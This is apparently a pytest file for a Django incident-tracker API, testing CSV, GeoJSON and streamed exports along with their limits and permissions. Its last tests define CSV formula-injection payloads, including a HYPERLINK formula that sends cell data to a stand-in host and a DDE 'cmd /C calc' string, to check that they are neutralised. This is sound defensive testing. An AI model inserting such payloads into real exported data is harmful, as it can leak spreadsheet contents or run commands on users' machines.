"""CSV and GeoJSON on list endpoints, and the streamed export of filtered incidents."""

import csv
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.factories import IncidentFactory, PlaceFactory

INCIDENT_COLUMNS = [
    "id",
    "title",
    "kind",
    "description",
    "occurred_at",
    "occurred_until",
    "time_precision",
    "place.id",
    "place.name",
    "place.latitude",
    "place.longitude",
    "latitude",
    "longitude",
    "geo_precision",
    "origin_place.id",
    "origin_place.name",
    "origin_place.latitude",
    "origin_place.longitude",
    "origin_latitude",
    "origin_longitude",
    "origin_geo_precision",
    "perpetrator.id",
    "perpetrator.name",
    "attribution",
    "target_description",
    "target_party.id",
    "target_party.name",
    "initiator",
    "responds_to",
    "killed_low",
    "killed_high",
    "civilians_killed_low",
    "civilians_killed_high",
    "children_killed_low",
    "children_killed_high",
    "injured_low",
    "injured_high",
    "status",
    "confidence",
    "suggested_confidence",
    "suggested_confidence_reason",
    "independent_claimants",
    "contested",
    "external_source",
    "external_id",
    "import_flags",
    "citation_ids",
    "report_ids",
    "assessments",
    "version",
    "created_at",
    "updated_at",
]

LISTS = [
    "parties",
    "places",
    "ceasefires",
    "sources",
    "reports",
    "incidents",
    "citations",
    "assessments",
    "ceasefires/1/violations",
]


def rows(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


def header(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return next(csv.reader(io.StringIO(body.decode())))


@pytest.mark.parametrize("route", LISTS)
def test_every_list_answers_csv_with_one_row_per_item_and_a_stable_header(assessed, client_for, route):
    client = client_for("reviewer")
    page = client.get(f"/api/v1/{route}/", {"page_size": 5, "count": "true"}).json()
    response = client.get(f"/api/v1/{route}/", {"page_size": 5, "format": "csv", "count": "true"})
    assert (response.status_code, response["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert [r["id"] for r in rows(response)] == [str(item["id"]) for item in page["results"]]
    assert response["X-Total-Count"] == str(page["count"])
    # The header comes from the serializer: a page past the filters' end has the same one.
    empty = client.get(f"/api/v1/{route}/", {"format": "csv", "updated_since": "2199-01-01T00:00:00Z"})
    assert header(empty) == header(response) and rows(empty) == []


def test_incident_csv_columns_and_cells(assessed, client_for):
    response = client_for("reviewer").get("/api/v1/incidents/", {"format": "csv", "kind": "artillery_shelling"})
    assert header(response) == INCIDENT_COLUMNS
    json_items = client_for("reviewer").get("/api/v1/incidents/", {"kind": "artillery_shelling"}).json()["results"]
    for row, item in zip(rows(response), json_items, strict=True):
        assert row["place.name"] == item["place"]["name"]
        assert row["perpetrator.id"] == (str(item["perpetrator"]["id"]) if item["perpetrator"] else "")
        assert row["citation_ids"] == ";".join(map(str, item["citation_ids"]))
        assert row["contested"] == ("true" if item["contested"] else "false")
        assert json.loads(row["assessments"]) == item["assessments"]
        assert row["occurred_until"] == (item["occurred_until"] or "")


def test_page_links_go_in_headers(assessed, client_for):
    response = client_for("reviewer").get("/api/v1/incidents/", {"format": "csv", "page_size": 2, "page": 2})
    assert response["Link"] == (
        '<http://testserver/api/v1/incidents/?format=csv&page=3&page_size=2>; rel="next", '
        '<http://testserver/api/v1/incidents/?format=csv&page_size=2>; rel="previous"'
    )


def test_incidents_and_places_answer_geojson(assessed, client_for):
    client = client_for("reviewer")
    items = client.get("/api/v1/incidents/", {"page_size": 100}).json()["results"]
    collection = client.get("/api/v1/incidents/", {"page_size": 100, "format": "geojson"})
    assert collection["Content-Type"] == "application/geo+json"
    body = collection.json()
    assert body["type"] == "FeatureCollection" and len(body["features"]) == len(items)
    for feature, item in zip(body["features"], items, strict=True):
        # RFC 7946: longitude first; the exact point if known, else the place's.
        point = item if item["latitude"] is not None else item["place"]
        assert feature == {
            "type": "Feature",
            "id": item["id"],
            "geometry": {"type": "Point", "coordinates": [point["longitude"], point["latitude"]]},
            "properties": item,
        }
    places = client.get("/api/v1/places/", {"format": "geojson", "page_size": 100}).json()["features"]
    zone = next(f for f in places if f["id"] == 14)
    assert (zone["geometry"]["type"], zone["properties"]["name"]) == ("Polygon", "Idlib de-escalation zone")
    unlocated = PlaceFactory(name="Nowhere in particular", latitude=None, longitude=None)
    listed = client.get("/api/v1/places/", {"format": "geojson", "page_size": 100}).json()["features"]
    assert next(f for f in listed if f["id"] == unlocated.pk)["geometry"] is None
    # One record, or an action's answer, stays JSON.
    assert client.get("/api/v1/places/14/", {"format": "geojson"}).json() == {
        "format": ["'geojson' is not a format of this endpoint. Known: json, api."]
    }


@pytest.mark.parametrize(
    ("url", "body"),
    [
        (
            "/api/v1/incidents/?format=xml",
            {"format": ["'xml' is not a format of this endpoint. Known: json, csv, api, geojson."]},
        ),
        ("/api/v1/parties/?format=geojson", {"format": ["'geojson' is not a format of this endpoint. Known: json, csv, api."]}),
        (
            "/api/v1/incidents/export/?format=json",
            {"format": ["'json' is not a format of this endpoint. Known: ndjson, csv, geojson, acled, ged."]},
        ),
        (
            "/api/v1/incidents/?format=csv&kind=rockets",
            {"kind": ["Select a valid choice. rockets is not one of the available choices."]},
        ),
        ("/api/v1/incidents/export/?format=csv&kinds=airstrike", None),
        ("/api/v1/incidents/export/?format=geojson&occurred_after=yesterday", None),
    ],
)
def test_bad_format_requests_are_json_400s(assessed, api, url, body):
    response = api.get(url)
    assert (response.status_code, response["Content-Type"]) == (400, "application/json")
    if body is not None:
        assert response.json() == body
    else:
        assert set(response.json()) == {url.split("&")[1].split("=")[0]}


def streamed(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def test_export_streams_every_matching_incident_unpaginated(roles, client_for, monkeypatch):
    from tracker.representation import export

    monkeypatch.setattr(export, "CHUNK_ROWS", 50)  # 120 rows: two full chunks and a partial one
    place = PlaceFactory()
    wanted = IncidentFactory.create_batch(120, place=place, kind="artillery_shelling")
    IncidentFactory.create_batch(3, place=place, kind="airstrike")
    client = client_for("reviewer")
    ids = sorted(i.pk for i in wanted)

    as_csv = client.get("/api/v1/incidents/export/", {"format": "csv", "kind": "artillery_shelling"})
    assert as_csv["Content-Disposition"] == 'attachment; filename="incidents.csv"'
    table = list(csv.DictReader(io.StringIO(streamed(as_csv))))
    assert sorted(int(r["id"]) for r in table) == ids and list(table[0]) == INCIDENT_COLUMNS

    as_ndjson = client.get("/api/v1/incidents/export/", {"kind": "artillery_shelling"})  # NDJSON by default
    assert as_ndjson["Content-Type"] == "application/x-ndjson"
    lines = streamed(as_ndjson).splitlines()
    assert sorted(json.loads(line)["id"] for line in lines) == ids

    as_geojson = client.get("/api/v1/incidents/export/", {"format": "geojson", "kind": "artillery_shelling"})
    collection = json.loads(streamed(as_geojson))
    assert collection["type"] == "FeatureCollection"
    assert sorted(f["id"] for f in collection["features"]) == ids
    # The same items as the list's pages, in the same order.
    listed = client.get("/api/v1/incidents/", {"kind": "artillery_shelling", "page_size": 1000}).json()["results"]
    assert [json.loads(line) for line in lines] == listed


def test_export_has_a_row_cap(roles, client_for, settings):
    IncidentFactory.create_batch(4)
    settings.TRACKER_EXPORT_MAX_ROWS = 3
    response = client_for("reviewer").get("/api/v1/incidents/export/", {"format": "csv"})
    assert (response.status_code, response.json()) == (
        400,
        {"detail": "More than 3 rows match these filters; the export limit is 3 (TRACKER_EXPORT_MAX_ROWS). Narrow the filters."},
    )
    settings.TRACKER_EXPORT_MAX_ROWS = 4
    assert len(streamed(client_for("reviewer").get("/api/v1/incidents/export/", {"format": "ndjson"})).splitlines()) == 4


@pytest.mark.parametrize("param", ["page=2", "page_size=10", "count=true", "cursor=abc"])
def test_export_refuses_page_parameters_rather_than_ignore_them(roles, client_for, param):
    response = client_for("reviewer").get(f"/api/v1/incidents/export/?format=csv&{param}")
    name = param.split("=")[0]
    assert response.status_code == 400
    assert list(response.json()) == [name] and response.json()[name][0].startswith("Unknown query parameter. Known: ")


def test_export_costs_the_same_queries_for_few_or_many_rows(roles, client_for):
    client = client_for("reviewer")

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            streamed(client.get("/api/v1/incidents/export/", {"format": "csv"}))
        return len(captured)

    IncidentFactory.create_batch(3)
    queries()  # the first request also loads the user's permissions
    few = queries()
    IncidentFactory.create_batch(60)
    assert queries() == few


@pytest.mark.parametrize("role", ["anonymous", "curator", "reviewer"])
def test_export_shows_what_the_list_shows(assessed, client_for, role):
    client = client_for(role)
    listed = [i["id"] for i in client.get("/api/v1/incidents/", {"page_size": 1000}).json()["results"]]
    exported = [json.loads(line)["id"] for line in streamed(client.get("/api/v1/incidents/export/")).splitlines()]
    assert exported == listed


def test_admin_exports_what_the_changelist_shows(assessed, roles, client):
    from tests.factories import UserFactory

    client.force_login(UserFactory(username="reviewer", roles=["reviewer"]))
    filters = {"assessments__verdict": "violation", "kind": "airstrike", "o": "1"}
    page = client.get("/admin/tracker/incident/", filters)
    assert page.status_code == 200, page.get("Location")
    shown = [i.pk for i in page.context["cl"].result_list]
    assert shown and "Export CSV" in page.content.decode()
    export = client.get("/admin/tracker/incident/export/", filters)
    assert export["Content-Type"] == "text/csv; charset=utf-8"
    table = list(csv.DictReader(io.StringIO(streamed(export))))
    assert [int(r["id"]) for r in table] == shown
    assert {r["kind"] for r in table} == {"airstrike"}
    # A filter the changelist does not know is its usual error page, not a file.
    assert client.get("/admin/tracker/incident/export/", {"nonsense": "1"})["Location"].endswith("?e=1")


HOSTILE = {
    "title": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "target_description": "\t=1+1",
}


def _hostile_incident():
    return IncidentFactory(
        **HOSTILE, status="verified", place=PlaceFactory(name="-1+1", latitude=-33.5, longitude=-70.6), killed_low=3
    )


def _neutralised(table: list[dict]) -> None:
    (row,) = table
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["description"] == "'" + HOSTILE["description"]
    assert row["target_description"] == "'" + HOSTILE["target_description"]
    assert row["place.name"] == "'-1+1"
    # Numbers stay numbers, even negative ones.
    assert (row["place.latitude"], row["place.longitude"], row["killed_low"]) == ("-33.5", "-70.6", "3")
    for cells in table:
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in cells.values())


def test_csv_cells_cannot_start_a_formula_in_lists_and_exports(roles, client_for):
    _hostile_incident()
    client = client_for("anonymous")
    listed = client.get("/api/v1/incidents/", {"format": "csv"})
    _neutralised(list(csv.DictReader(io.StringIO(listed.content.decode()))))
    exported = client.get("/api/v1/incidents/export/", {"format": "csv"})
    _neutralised(list(csv.DictReader(io.StringIO(streamed(exported)))))
    places = list(csv.DictReader(io.StringIO(client.get("/api/v1/places/", {"format": "csv"}).content.decode())))
    assert [p["name"] for p in places] == ["'-1+1"]


def test_admin_csv_export_cannot_start_a_formula(roles, client):
    from tests.factories import UserFactory

    _hostile_incident()
    client.force_login(UserFactory(username="reviewer", roles=["reviewer"]))
    _neutralised(list(csv.DictReader(io.StringIO(streamed(client.get("/admin/tracker/incident/export/"))))))


def test_neutralise_and_restore_are_inverse():
    from tracker.csv_cells import neutralise, restore

    for text in ["=1", "+1", "-1", "@x", "\tx", "\rx", "'Tis", "''x", "'=x", "plain", "", "'"]:
        assert restore(neutralise(text)) == text
        assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))
